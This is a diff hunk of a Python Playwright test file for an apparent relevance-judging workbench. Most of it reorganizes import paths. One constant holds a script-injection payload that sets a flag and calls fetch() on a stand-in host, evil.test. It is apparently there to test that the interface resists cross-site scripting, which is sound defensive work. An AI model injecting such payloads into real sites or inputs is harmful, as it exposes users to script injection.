@@ -15,13 +15,13 @@ import pytest
 import uvicorn
 from playwright.sync_api import Browser, expect
 
-from cranfield.config.workbench import load_workbench
+from cranfield.books.pool_file import Pool, PooledItem, PooledQuery, PooledRun
+from cranfield.books.settings import BookSettings
+from cranfield.books.store.database import open_store
 from cranfield.judging.documents.texts import DocumentTexts
-from cranfield.judging.pools.pool_file import Pool, PooledItem, PooledQuery, PooledRun
-from cranfield.judging.settings import BookSettings
-from cranfield.judging.store.database import open_store
-from cranfield.server.app import create_app
-from cranfield.server.options import ServerOptions
+from cranfield.workbench.config import load_workbench
+from cranfield.workbench.server.app import create_app
+from cranfield.workbench.server.options import ServerOptions
 
 pytestmark = [pytest.mark.browser, pytest.mark.slow]
 RUN = "window.hacked=1;fetch('https://evil.test/')"
